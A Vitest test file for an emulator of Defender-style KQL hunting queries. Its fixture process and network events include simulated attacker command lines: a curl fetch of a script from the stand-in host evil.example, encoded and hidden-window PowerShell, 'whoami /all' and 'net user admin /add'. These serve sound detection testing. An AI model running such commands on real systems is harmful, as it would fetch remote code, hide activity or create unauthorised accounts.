import { readFileSync } from 'node:fs';
import { GraphHuntingResponse, HuntingResponse, validateStrict } from '@mde-bridge/client/models';
import { beforeAll, describe, expect, it } from 'vitest';
import { DefenderError } from '../errors.js';
import { checkKqlSyntax, runKql, toGraphResponse, toMdeResponse, warmUpHunting } from './engine.js';
import { makeTables, memoryTable, NOW_MS, PROCESS_COLUMNS } from './test-fixtures.js';
import type { HuntingResult, Row } from './types.js';

const tables = makeTables().all;

async function run(
  query: string,
  opts: { maxRows?: number; maxScannedRows?: number } = {},
): Promise<HuntingResult> {
  return runKql(query, tables, { nowMs: NOW_MS, ...opts });
}
async function rows(query: string): Promise<Row[]> {
  return (await run(query)).rows;
}
async function column(query: string, name: string): Promise<unknown[]> {
  return (await rows(query)).map((r) => r[name]);
}
/** Value of a scalar expression, through `print`. */
async function scalar(expr: string): Promise<unknown> {
  return (await rows(`print v = ${expr}`))[0].v;
}
async function failure(query: string, opts: { maxScannedRows?: number } = {}): Promise<DefenderError> {
  try {
    await run(query, opts);
  } catch (err) {
    expect(err).toBeInstanceOf(DefenderError);
    const e = err as DefenderError;
    expect(e.status).toBe(400);
    expect(e.code).toBe('BadRequest');
    return e;
  }
  throw new Error(`query unexpectedly succeeded: ${query}`);
}
const iso = (v: unknown) => (v instanceof Date ? v.toISOString() : v);

beforeAll(() => {
  warmUpHunting(); // loads the parser once for the whole file
});

describe('tabular operators', () => {
  it('where + project with renames and expressions', async () => {
    const r = await rows(
      "DeviceProcessEvents | where DeviceId == 'd1' | project Timestamp, Name = FileName, Cmd = tolower(ProcessCommandLine)",
    );
    expect(r).toEqual([
      { Timestamp: new Date(NOW_MS - 3_600_000), Name: 'cmd.exe', Cmd: 'cmd.exe /c whoami /all' },
      {
        Timestamp: new Date(NOW_MS - 7_200_000),
        Name: 'powershell.exe',
        Cmd: 'powershell.exe -encodedcommand sqbfafga',
      },
    ]);
  });

  it('only sees the last 30 days', async () => {
    expect(await column('DeviceProcessEvents | project FileName', 'FileName')).not.toContain('ancient.exe');
    expect(await column('DeviceProcessEvents | count', 'Count')).toEqual([5]);
  });

  it('project-away, project-keep, project-rename, project-reorder', async () => {
    const away = await run('DeviceNetworkEvents | project-away Remote*, Local*, Initiating* | take 1');
    expect(away.schema.map((c) => c.name)).toEqual([
      'Timestamp',
      'DeviceId',
      'DeviceName',
      'ActionType',
      'Protocol',
    ]);
    const keep = await run('DeviceNetworkEvents | project-keep DeviceId, RemotePort | take 1');
    expect(keep.schema).toEqual([
      { name: 'DeviceId', type: 'string' },
      { name: 'RemotePort', type: 'int' },
    ]);
    const renamed = await run(
      'DeviceNetworkEvents | project-rename Port = RemotePort | project Port | take 1',
    );
    expect(renamed.rows).toEqual([{ Port: 443 }]);
    const reordered = await run(
      'DeviceNetworkEvents | project DeviceId, RemotePort | project-reorder RemotePort',
    );
    expect(reordered.schema.map((c) => c.name)).toEqual(['RemotePort', 'DeviceId']);
  });

  it('extend adds, replaces, chains and names unnamed columns like Kusto', async () => {
    const r = await run(
      "DeviceProcessEvents | where FileName == 'cmd.exe' | extend Upper = toupper(FileName), FileName = 'x', tolower(DeviceName) | extend Len = strlen(Upper) | project FileName, Upper, Len, Column1",
    );
    expect(r.rows).toEqual([{ FileName: 'x', Upper: 'CMD.EXE', Len: 7, Column1: 'ws-01.contoso.com' }]);
    expect(r.schema.map((c) => c.type)).toEqual(['string', 'string', 'long', 'string']);
  });

  it('take / limit', async () => {
    expect((await rows('DeviceProcessEvents | take 2')).length).toBe(2);
    expect((await rows('DeviceProcessEvents | limit 3')).length).toBe(3);
    expect((await rows('DeviceProcessEvents | take 0')).length).toBe(0);
  });

  it('top N by expr asc/desc', async () => {
    expect(await column('DeviceProcessEvents | top 2 by Timestamp', 'FileName')).toEqual([
      'cmd.exe',
      'powershell.exe',
    ]);
    expect(await column('DeviceProcessEvents | top 2 by Timestamp asc', 'FileName')).toEqual([
      'bash',
      'net.exe',
    ]);
    expect(await column('DeviceNetworkEvents | top 1 by RemotePort desc', 'RemotePort')).toEqual([445]);
  });

  it('sort / order by: several keys, default desc', async () => {
    expect(await column('DeviceNetworkEvents | sort by RemotePort', 'RemotePort')).toEqual([
      445, 443, 80, 80, 53,
    ]);
    expect(await column('DeviceNetworkEvents | order by RemotePort asc', 'RemotePort')).toEqual([
      53, 80, 80, 443, 445,
    ]);
    const r = await rows(
      'DeviceNetworkEvents | sort by RemotePort asc, DeviceName desc | project RemotePort, DeviceName',
    );
    expect(r.slice(1, 3)).toEqual([
      { RemotePort: 80, DeviceName: 'mac-03' }, // ordinal string order: 'm' > 'S'
      { RemotePort: 80, DeviceName: 'SRV-02' },
    ]);
    const strings = await column('DeviceProcessEvents | sort by FileName asc', 'FileName');
    expect(strings).toEqual(['PowerShell.exe', 'bash', 'cmd.exe', 'net.exe', 'powershell.exe']);
  });

  it('summarize with count, dcount, min, max, sum, avg, countif, make_set, make_list', async () => {
    const r = await rows(
      'DeviceNetworkEvents | summarize Connections = count(), Remotes = dcount(RemoteIP), MinPort = min(RemotePort), MaxPort = max(RemotePort), Total = sum(RemotePort), Mean = avg(RemotePort), Failed = countif(ActionType == "ConnectionFailed"), Ports = make_set(RemotePort), Urls = make_list(RemoteUrl) by DeviceId | sort by DeviceId asc',
    );
    expect(r).toEqual([
      {
        DeviceId: 'd1',
        Connections: 2,
        Remotes: 2,
        MinPort: 443,
        MaxPort: 445,
        Total: 888,
        Mean: 444,
        Failed: 0,
        Ports: [443, 445],
        Urls: ['evil.example', ''],
      },
      {
        DeviceId: 'd2',
        Connections: 2,
        Remotes: 2,
        MinPort: 53,
        MaxPort: 80,
        Total: 133,
        Mean: 66.5,
        Failed: 1,
        Ports: [80, 53],
        Urls: ['update.example.org', ''],
      },
      {
        DeviceId: 'd3',
        Connections: 1,
        Remotes: 1,
        MinPort: 80,
        MaxPort: 80,
        Total: 80,
        Mean: 80,
        Failed: 0,
        Ports: [80],
        Urls: ['evil.example'],
      },
    ]);
  });

  it('summarize names generated columns like Kusto (count_, dcount_X) and types them', async () => {
    const r = await run('DeviceProcessEvents | summarize count(), dcount(AccountName), max(Timestamp)');
    expect(r.schema).toEqual([
      { name: 'count_', type: 'long' },
      { name: 'dcount_AccountName', type: 'long' },
      { name: 'max_Timestamp', type: 'datetime' },
    ]);
    expect(r.rows).toEqual([
      { count_: 5, dcount_AccountName: 3, max_Timestamp: new Date(NOW_MS - 3_600_000) },
    ]);
  });

  it('summarize over no rows: one row without by, none with by', async () => {
    expect(
      await rows("DeviceProcessEvents | where FileName == 'nope' | summarize count(), max(ProcessId)"),
    ).toEqual([{ count_: 0, max_ProcessId: null }]);
    expect(
      await rows("DeviceProcessEvents | where FileName == 'nope' | summarize count() by DeviceId"),
    ).toEqual([]);
  });

  it('summarize by bin(Timestamp, 1h) and by a named bin', async () => {
    const r = await rows(
      'DeviceNetworkEvents | summarize n = count() by bin(Timestamp, 1d) | sort by Timestamp asc',
    );
    expect(r.map((x) => [iso(x.Timestamp), x.n])).toEqual([
      ['2024-03-24T00:00:00.000Z', 1],
      ['2024-03-26T00:00:00.000Z', 4],
    ]);
    const hourly = await rows(
      'DeviceNetworkEvents | where Timestamp > ago(6h) | summarize n = count() by Hour = bin(Timestamp, 1h), DeviceId | sort by Hour desc',
    );
    expect(hourly.map((x) => [iso(x.Hour), x.DeviceId, x.n])).toEqual([
      ['2024-03-26T11:00:00.000Z', 'd1', 1],
      ['2024-03-26T10:00:00.000Z', 'd1', 1],
      ['2024-03-26T09:00:00.000Z', 'd2', 1],
      ['2024-03-26T07:00:00.000Z', 'd2', 1],
    ]);
  });

  it('arg_max(expr, *) and arg_min(expr, cols...)', async () => {
    const latest = await run(
      'DeviceProcessEvents | summarize arg_max(Timestamp, *) by DeviceId | sort by DeviceId asc',
    );
    expect(latest.schema.map((c) => c.name)).toEqual([
      'DeviceId',
      ...PROCESS_COLUMNS.map(([n]) => n).filter((n) => n !== 'DeviceId'),
    ]);
    expect(latest.rows.map((r) => [r.DeviceId, r.FileName, r.ProcessId])).toEqual([
      ['d1', 'cmd.exe', 1001],
      ['d2', 'PowerShell.exe', 1003],
      ['d3', 'bash', 1005],
    ]);
    const first = await rows(
      'DeviceProcessEvents | summarize arg_min(Timestamp, FileName, AccountName) by DeviceId | sort by DeviceId asc',
    );
    expect(first.map((r) => [r.DeviceId, r.FileName, r.AccountName])).toEqual([
      ['d1', 'powershell.exe', 'alice'],
      ['d2', 'net.exe', 'bob'],
      ['d3', 'bash', 'carol'],
    ]);
  });

  it('join network events to process events on DeviceId + ProcessId', async () => {
    const q = `DeviceNetworkEvents
      | join kind=inner (DeviceProcessEvents | project DeviceId, ProcessId, FileName, ProcessCommandLine)
          on DeviceId, $left.InitiatingProcessId == $right.ProcessId
      | project DeviceId, RemoteIP, FileName, ProcessCommandLine
      | sort by DeviceId asc, RemoteIP asc`;
    expect(await rows(q)).toEqual([
      {
        DeviceId: 'd1',
        RemoteIP: '10.0.0.10',
        FileName: 'cmd.exe',
        ProcessCommandLine: 'cmd.exe /c whoami /all',
      },
      {
        DeviceId: 'd1',
        RemoteIP: '203.0.113.5',
        FileName: 'powershell.exe',
        ProcessCommandLine: 'powershell.exe -EncodedCommand SQBFAFgA',
      },
      {
        DeviceId: 'd2',
        RemoteIP: '198.51.100.7',
        FileName: 'PowerShell.exe',
        ProcessCommandLine: 'PowerShell.exe -nop -w hidden',
      },
      {
        DeviceId: 'd3',
        RemoteIP: '203.0.113.5',
        FileName: 'bash',
        ProcessCommandLine: 'bash -c curl http://evil.example/x.sh',
      },
    ]);
  });

  it('join output schema carries the right side with Kusto renames', async () => {
    const r = await run(
      'DeviceNetworkEvents | take 1 | project DeviceId, Port = RemotePort | join (DeviceProcessEvents | project DeviceId, FileName) on DeviceId',
    );
    expect(r.schema.map((c) => c.name)).toEqual(['DeviceId', 'Port', 'DeviceId1', 'FileName']);
    // default kind is innerunique: left de-duplicated on the key, every right match kept
    expect(r.rows.map((x) => x.FileName).sort()).toEqual(['cmd.exe', 'powershell.exe']);
  });

  it('join kind=leftouter keeps unmatched left rows with nulls; anti and semi', async () => {
    const q = (kind: string) =>
      `DeviceNetworkEvents | join kind=${kind} (DeviceProcessEvents | project DeviceId, ProcessId, FileName) on DeviceId, $left.InitiatingProcessId == $right.ProcessId`;
    const outer = await rows(
      `${q('leftouter')} | where isnull(ProcessId) | project InitiatingProcessFileName, FileName, ProcessId`,
    );
    expect(outer).toEqual([{ InitiatingProcessFileName: 'svchost.exe', FileName: '', ProcessId: null }]);
    expect(await column(`${q('leftanti')} | project InitiatingProcessId`, 'InitiatingProcessId')).toEqual([
      777,
    ]);
    expect((await rows(q('leftsemi'))).length).toBe(4);
    expect((await rows(q('rightanti'))).map((r) => r.FileName).sort()).toEqual(['net.exe']);
  });

  it('distinct and count', async () => {
    expect(await rows('DeviceProcessEvents | distinct AccountName | sort by AccountName asc')).toEqual([
      { AccountName: 'alice' },
      { AccountName: 'bob' },
      { AccountName: 'carol' },
    ]);
    expect((await rows('DeviceNetworkEvents | distinct DeviceId, Protocol')).length).toBe(4);
    expect(await rows("DeviceProcessEvents | where AccountName == 'bob' | count")).toEqual([{ Count: 2 }]);
  });

  it('let scalars and tabular lets', async () => {
    const q = `let lookback = 4h;
      let suspicious = dynamic(['powershell.exe', 'cmd.exe']);
      let procs = DeviceProcessEvents | where Timestamp > ago(lookback);
      procs | where FileName in~ (suspicious) | summarize n = count() by DeviceId | sort by DeviceId asc`;
    expect(await rows(q)).toEqual([
      { DeviceId: 'd1', n: 2 },
      { DeviceId: 'd2', n: 1 },
    ]);
  });

  it('summarize expressions over aggregates', async () => {
    const r = await rows(
      "DeviceProcessEvents | summarize Double = count() * 2, Files = tostring(make_set(FileName)), Many = dcount(DeviceId) > 1, Range = strcat(min(FileName), '..', max(FileName)) by AccountName | sort by AccountName asc",
    );
    expect(r[0]).toEqual({
      AccountName: 'alice',
      Double: 4,
      Files: '["cmd.exe","powershell.exe"]',
      Many: false,
      Range: 'cmd.exe..powershell.exe',
    });
  });

  it('print, leading union and take_any', async () => {
    expect(await run('print 1, x = "a"')).toMatchObject({
      schema: [
        { name: 'print_0', type: 'long' },
        { name: 'x', type: 'string' },
      ],
      rows: [{ print_0: 1, x: 'a' }],
    });
    expect(
      await rows('union DeviceProcessEvents, DeviceNetworkEvents | summarize count() by DeviceId | count'),
    ).toEqual([{ Count: 3 }]);
    expect(await rows("DeviceProcessEvents | where DeviceId == 'd3' | summarize take_any(FileName)")).toEqual(
      [
        { FileName: 'bash' }, // Kusto names take_any(X) after X
      ],
    );
  });

  it('in ((subquery)), toscalar, union', async () => {
    expect(
      await column(
        "DeviceProcessEvents | where DeviceId in ((DeviceNetworkEvents | where RemoteUrl == 'evil.example' | distinct DeviceId)) | distinct DeviceId | sort by DeviceId asc",
        'DeviceId',
      ),
    ).toEqual(['d1', 'd3']);
    expect(await scalar('toscalar(DeviceNetworkEvents | summarize max(RemotePort))')).toBe(445);
    const u = await run(
      'DeviceProcessEvents | project DeviceId, FileName | union (DeviceNetworkEvents | project DeviceId, RemotePort) | count',
    );
    expect(u.rows).toEqual([{ Count: 10 }]);
  });

  it('dynamic columns: member access, make_set over arrays', async () => {
    const r = await rows(
      'DeviceTvmSoftwareVulnerabilities | extend First = CveTags[0], Note = CveTags.note | sort by DeviceId asc, SoftwareName asc | project DeviceId, First, Note',
    );
    expect(r).toEqual([
      { DeviceId: 'd1', First: 'ZeroDay', Note: null },
      { DeviceId: 'd1', First: null, Note: null },
      { DeviceId: 'd2', First: null, Note: 'x' },
    ]);
    const tags = await rows(
      'DeviceTvmSoftwareVulnerabilities | where isnotnull(CveTags[0]) or array_length(CveTags) == 0 | summarize Tags = make_set(CveTags), Cves = make_set(CveId), n = dcount(CveId) by DeviceId',
    );
    expect(tags).toEqual([
      { DeviceId: 'd1', Tags: ['ZeroDay', 'Exploit'], Cves: ['CVE-2024-0001', 'CVE-2024-0002'], n: 2 },
    ]);
  });
});

describe('scalar functions and operators', () => {
  it('string equality: == is case-sensitive, =~ is not', async () => {
    expect(await scalar("'PowerShell.exe' == 'powershell.exe'")).toBe(false);
    expect(await scalar("'PowerShell.exe' =~ 'powershell.exe'")).toBe(true);
    expect(await scalar("'a' != 'A'")).toBe(true);
    expect(await scalar("'a' !~ 'A'")).toBe(false);
    expect(
      await column("DeviceProcessEvents | where FileName =~ 'POWERSHELL.EXE' | project DeviceId", 'DeviceId'),
    ).toEqual(['d1', 'd2']);
  });

  it('has is whole-term and case-insensitive; contains is substring', async () => {
    expect(await scalar("'cmd.exe /c whoami /all' has 'WHOAMI'")).toBe(true);
    expect(await scalar("'cmd.exe /c whoami /all' has 'who'")).toBe(false);
    expect(await scalar("'cmd.exe /c whoami /all' contains 'WHO'")).toBe(true);
    expect(await scalar("'cmd.exe /c whoami /all' !has 'who'")).toBe(true);
    expect(await scalar("'cmd.exe /c whoami /all' !contains 'who'")).toBe(false);
    expect(await scalar("'C:\\\\Windows\\\\System32\\\\cmd.exe' has 'cmd.exe'")).toBe(true);
    expect(await scalar("'xcmd.exe' has 'cmd.exe'")).toBe(false);
    expect(await scalar("'North America' has 'america'")).toBe(true);
    expect(await scalar("'abc' has_cs 'ABC'")).toBe(false);
    expect(await scalar("'powershell -enc AAA' has_any ('-enc', '-encodedcommand')")).toBe(true);
    expect(await scalar("'powershell -enc AAA' has_all ('-enc', 'nope')")).toBe(false);
  });

  it('startswith, endswith, hasprefix, matches regex', async () => {
    expect(await scalar("'PowerShell.exe' startswith 'power'")).toBe(true);
    expect(await scalar("'PowerShell.exe' endswith '.EXE'")).toBe(true);
    expect(await scalar("'PowerShell.exe' !startswith 'shell'")).toBe(true);
    expect(await scalar("'PowerShell.exe' startswith_cs 'power'")).toBe(false);
    expect(await scalar("'net user admin' hasprefix 'adm'")).toBe(true);
    expect(await scalar("'net user admin' matches regex @'user\\s+\\w+'")).toBe(true);
  });

  it('in, !in, in~ and between', async () => {
    expect(await scalar("'b' in ('a', 'b')")).toBe(true);
    expect(await scalar("'B' in ('a', 'b')")).toBe(false);
    expect(await scalar("'B' in~ ('a', 'b')")).toBe(true);
    expect(await scalar("'B' !in ('a', 'b')")).toBe(true);
    expect(await scalar("'B' !in~ ('a', 'b')")).toBe(false);
    expect(await scalar('5 in (1, 5, 9)')).toBe(true);
    expect(await scalar('5 between (1 .. 5)')).toBe(true);
    expect(await scalar('6 between (1 .. 5)')).toBe(false);
    expect(await scalar('6 !between (1 .. 5)')).toBe(true);
    expect(
      await column(
        'DeviceNetworkEvents | where RemotePort between (80 .. 443) | project RemotePort',
        'RemotePort',
      ),
    ).toEqual([443, 80, 80]);
  });

  it('and, or, not()', async () => {
    expect(await scalar('true and not(false)')).toBe(true);
    expect(await scalar('false or (1 > 2)')).toBe(false);
    expect(
      await column(
        "DeviceProcessEvents | where AccountName == 'bob' or FileName == 'bash' | project AccountName",
        'AccountName',
      ),
    ).toEqual(['bob', 'bob', 'carol']);
  });

  it('comparisons and arithmetic', async () => {
    expect(await scalar('1 < 2')).toBe(true);
    expect(await scalar('2 <= 2')).toBe(true);
    expect(await scalar('3 >= 4')).toBe(false);
    expect(await scalar('7 / 2')).toBe(3);
    expect(await scalar('7.0 / 2')).toBe(3.5);
    expect(await scalar('7 % 3')).toBe(1);
    expect(await scalar('2 * 3 + 1')).toBe(7);
    expect(await scalar('-5 + 2')).toBe(-3);
  });

  it('isempty, isnotempty, isnull, isnotnull', async () => {
    expect(await scalar("isempty('')")).toBe(true);
    expect(await scalar("isnotempty('x')")).toBe(true);
    expect(await scalar('isnull(long(null))')).toBe(true);
    expect(await scalar('isnotnull(5)')).toBe(true);
    expect(
      await column('DeviceNetworkEvents | where isempty(RemoteUrl) | project RemotePort', 'RemotePort'),
    ).toEqual([445, 53]);
    expect(
      await column('DeviceProcessEvents | where isnotempty(AdditionalFields) | project FileName', 'FileName'),
    ).toEqual(['cmd.exe']);
  });

  it('tolower, toupper, strcat, tostring, toint, tolong, strlen, substring, split, replace_string', async () => {
    expect(await scalar("tolower('AbC')")).toBe('abc');
    expect(await scalar("toupper('AbC')")).toBe('ABC');
    expect(await scalar("strcat('a', 1, '-', true)")).toBe('a1-true');
    expect(await scalar('tostring(42)')).toBe('42');
    expect(await scalar('tostring(datetime(2024-01-02T03:04:05Z))')).toBe('2024-01-02T03:04:05.0000000Z');
    expect(await scalar("toint('42')")).toBe(42);
    expect(await scalar("tolong('x')")).toBe(null);
    expect(await scalar('toint(7.9)')).toBe(7);
    expect(await scalar("strlen('hello')")).toBe(5);
    expect(await scalar("substring('hello', 1, 3)")).toBe('ell');
    expect(await scalar("split('a,b,c', ',')")).toEqual(['a', 'b', 'c']);
    expect(await scalar("replace_string('a-b-c', '-', '+')")).toBe('a+b+c');
    expect(await scalar("extract(@'user (\\w+)', 1, 'net user admin /add')")).toBe('admin');
  });

  it('iff / iif / case / coalesce', async () => {
    expect(await scalar("iff(1 > 0, 'yes', 'no')")).toBe('yes');
    expect(await scalar("iif(1 < 0, 'yes', 'no')")).toBe('no');
    expect(await scalar("case(1 > 2, 'a', 2 > 1, 'b', 'c')")).toBe('b');
    expect(await scalar("coalesce('', 'x')")).toBe('x');
  });

  it('ago, now, datetime literals, timespan literals and arithmetic, bin', async () => {
    expect(iso(await scalar('now()'))).toBe('2024-03-26T12:00:00.000Z');
    expect(iso(await scalar('ago(1h)'))).toBe('2024-03-26T11:00:00.000Z');
    expect(iso(await scalar('ago(7d)'))).toBe('2024-03-19T12:00:00.000Z');
    expect(iso(await scalar('datetime(2024-01-01) + 30m'))).toBe('2024-01-01T00:30:00.000Z');
    expect(iso(await scalar('datetime(2024-01-01 10:00:10) - 10s'))).toBe('2024-01-01T10:00:00.000Z');
    expect(await scalar('datetime(2024-01-02) - datetime(2024-01-01)')).toBe('1.00:00:00');
    expect(await scalar('1h + 30m')).toBe('01:30:00');
    expect(await scalar('2d / 1h')).toBe(48);
    expect(iso(await scalar('bin(datetime(2024-03-26T10:47:12Z), 1h)'))).toBe('2024-03-26T10:00:00.000Z');
    expect(iso(await scalar('bin(datetime(2024-03-27T10:47:12Z), 7d)'))).toBe('2024-03-25T00:00:00.000Z');
    expect(await scalar('bin(17, 5)')).toBe(15);
    expect(iso(await scalar('startofday(datetime(2024-03-26T10:47:12Z))'))).toBe('2024-03-26T00:00:00.000Z');
    expect(await scalar('datetime(2024-01-01) < datetime(2024-01-02)')).toBe(true);
  });

  it('parse_json / todynamic and dynamic member access', async () => {
    expect(await scalar('parse_json(\'{"a":{"b":[1,2]}}\').a.b[1]')).toBe(2);
    expect(await scalar('todynamic(\'{"k":"v"}\')[\'k\']')).toBe('v');
    expect(await scalar("parse_json('not json')")).toBe('not json');
    expect(await scalar("array_length(parse_json('[1,2,3]'))")).toBe(3);
    const r = await rows(
      'DeviceProcessEvents | where isnotempty(AdditionalFields) | extend F = parse_json(AdditionalFields) | project Parent = tostring(F.ParentProcessName), Count = toint(F.Count), Tag = tostring(F.Tags[1])',
    );
    expect(r).toEqual([{ Parent: 'explorer.exe', Count: 3, Tag: 'b' }]);
  });
});

describe('limits', () => {
  it('keeps the first maxRows rows silently', async () => {
    const r = await run('DeviceProcessEvents | sort by Timestamp desc', { maxRows: 2 });
    expect(r.rows.map((x) => x.FileName)).toEqual(['cmd.exe', 'powershell.exe']);
  });

  it('fails with the timeout message when more rows are scanned than allowed', async () => {
    const e = await failure('DeviceProcessEvents | count', { maxScannedRows: 3 });
    expect(e.message).toBe('Query exceeded the timeout period.');
  });

  it('counts rows scanned', async () => {
    const r = await run('DeviceProcessEvents | take 1');
    expect(r.rowsScanned).toBe(1);
    const all = await run("DeviceProcessEvents | where FileName == 'bash'");
    expect(all.rowsScanned).toBe(5);
  });

  it('does not hang on large results or many rows', async () => {
    const many: Row[] = Array.from({ length: 150_000 }, (_, i) => ({
      Timestamp: new Date(NOW_MS - (i % 1000) * 1000),
      DeviceId: `d${i % 100}`,
      DeviceName: `host${i % 100}`,
      ActionType: 'ProcessCreated',
      FileName: i % 7 === 0 ? 'cmd.exe' : 'svchost.exe',
      FolderPath: '',
      ProcessId: i,
      ProcessCommandLine: '',
      AccountName: 'system',
      InitiatingProcessFileName: '',
      InitiatingProcessId: 0,
      ReportId: i,
      AdditionalFields: '',
    }));
    const big = memoryTable('DeviceProcessEvents', PROCESS_COLUMNS, many);
    const started = performance.now();
    const r = await runKql('DeviceProcessEvents | where FileName == "svchost.exe"', [big], { nowMs: NOW_MS });
    expect(r.rows.length).toBe(100_000);
    const s = await runKql('DeviceProcessEvents | summarize count() by DeviceId, FileName | count', [big], {
      nowMs: NOW_MS,
    });
    expect(s.rows).toEqual([{ Count: 200 }]);
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});

describe('errors', () => {
  it('syntax errors carry the parser diagnostic after Defender recognition-error text', async () => {
    const e = await failure('DeviceProcessEvents | where');
    expect(e.message).toMatch(/^A recognition error occurred\.\. Fix syntax errors in your query\. /);
    expect(e.message).toContain('Missing expression');
    expect(e.message).toContain('line 1, position 28');
    const q = await failure("DeviceProcessEvents | where FileName == 'x");
    expect(q.message).toContain('A recognition error occurred');
  });

  it('unknown table', async () => {
    const e = await failure('DeviceBogusEvents | take 1');
    expect(e.message).toContain("The name 'DeviceBogusEvents' does not refer to any known table");
  });

  it('unknown column', async () => {
    const e = await failure('DeviceProcessEvents | where NoSuchColumn == 1');
    expect(e.message).toContain("'NoSuchColumn'");
    expect(e.message).toMatch(/^Semantic error: /);
  });

  it('type errors from the analyzer', async () => {
    const e = await failure('DeviceProcessEvents | where FileName has 1');
    expect(e.message).toContain("The operator 'has' is not defined");
  });

  it('valid but unsupported operators and functions are named', async () => {
    expect((await failure('DeviceTvmSoftwareVulnerabilities | mv-expand CveTags')).message).toBe(
      "The operator 'mv-expand' isn't supported by the emulator",
    );
    expect(
      (await failure('DeviceProcessEvents | parse ProcessCommandLine with * "user " U " " *')).message,
    ).toBe("The operator 'parse' isn't supported by the emulator");
    expect((await failure('DeviceProcessEvents | extend h = hash_sha256(FileName)')).message).toBe(
      "The function 'hash_sha256' isn't supported by the emulator",
    );
    expect((await failure('DeviceProcessEvents | summarize percentile(ProcessId, 50)')).message).toBe(
      "The aggregation function 'percentile' isn't supported by the emulator",
    );
    expect((await failure('let f = (x:string) { x }; print f("a")')).message).toContain(
      'user-defined function',
    );
  });

  it('empty and absurd input', async () => {
    await failure('');
    await failure('   ');
    await failure(`print x = ${'('.repeat(500)}1${')'.repeat(500)}`);
    await failure('|||');
  });
});

describe('wire shapes', () => {
  const samplesDir = new URL('../../../../../shared/spec/samples/', import.meta.url);
  const sample = (name: string) => JSON.parse(readFileSync(new URL(name, samplesDir), 'utf8'));
  const keysDeep = (v: unknown, prefix = ''): string[] => {
    if (!v || typeof v !== 'object' || Array.isArray(v)) return [];
    return Object.entries(v).flatMap(([k, x]) => [`${prefix}${k}`, ...keysDeep(x, `${prefix}${k}.`)]);
  };

  it('MDE response has the sample key sets, types and datetime format', async () => {
    const result = await run(
      "DeviceProcessEvents | where FileName == 'cmd.exe' | project Timestamp, FileName, InitiatingProcessFileName",
    );
    const body = toMdeResponse(result);
    const real = sample('advanced_hunting_result.json');
    expect(keysDeep(body.Stats).sort()).toEqual(keysDeep(real.Stats).sort());
    expect(Object.keys(body).sort()).toEqual(Object.keys(real).sort());
    expect(body.Schema).toEqual(real.Schema);
    expect(Object.keys(body.Results[0])).toEqual(Object.keys(real.Results[0]));
    expect(body.Results[0]).toEqual({
      Timestamp: '2024-03-26T11:00:00.0000000Z',
      FileName: 'cmd.exe',
      InitiatingProcessFileName: 'explorer.exe',
    });
    expect(body.Stats.dataset_statistics).toEqual([
      { table_row_count: 1, table_size: JSON.stringify(body.Results).length },
    ]);
    expect(validateStrict(HuntingResponse, body)).toEqual([]);
    expect(JSON.parse(JSON.stringify(body))).toEqual(body);
  });

  it('Graph response has the sample key sets', async () => {
    const result = await run(
      "DeviceProcessEvents | where FileName == 'cmd.exe' | project Timestamp, FileName, InitiatingProcessFileName",
    );
    const real = sample('graph_run_hunting_query_result.json');
    const body = toGraphResponse(result, real['@odata.context']);
    expect(Object.keys(body).sort()).toEqual(Object.keys(real).sort());
    expect(body['@odata.context']).toBe(real['@odata.context']);
    expect(body.schema).toEqual(real.schema);
    expect(Object.keys(body.results[0])).toEqual(Object.keys(real.results[0]));
    expect(validateStrict(GraphHuntingResponse, body)).toEqual([]);
  });

  it('maps every column type to its .NET name', async () => {
    const r = await run(
      "print s = 'x', i = int(1), l = 2, d = 1.5, b = true, t = datetime(2020-08-30T06:38:35.7664356Z), ts = 90m, o = dynamic({'a':1}), g = guid(74be27de-1e4e-49d9-b579-fe0b331d3642)",
    );
    const body = toMdeResponse(r);
    expect(body.Schema.map((c) => c.Type)).toEqual([
      'String',
      'Int32',
      'Int64',
      'Double',
      'Boolean',
      'DateTime',
      'TimeSpan',
      'Object',
      'Guid',
    ]);
    expect(body.Results[0]).toEqual({
      s: 'x',
      i: 1,
      l: 2,
      d: 1.5,
      b: true,
      t: '2020-08-30T06:38:35.7660000Z',
      ts: '01:30:00',
      o: { a: 1 },
      g: '74be27de-1e4e-49d9-b579-fe0b331d3642',
    });
  });
});

describe('checkKqlSyntax', () => {
  it('accepts valid queries and reports diagnostics with positions', () => {
    expect(checkKqlSyntax('DeviceProcessEvents | take 1', tables)).toEqual({ ok: true });
    const bad = checkKqlSyntax('DeviceProcessEvents | where', tables);
    expect(bad.ok).toBe(false);
    if (!bad.ok) expect(bad.diagnostics[0]).toEqual({ message: 'Missing expression', start: 27, length: 0 });
    const unknown = checkKqlSyntax('Nope | take 1', tables);
    expect(unknown.ok).toBe(false);
    if (!unknown.ok) expect(unknown.diagnostics[0].start).toBe(0);
  });
});
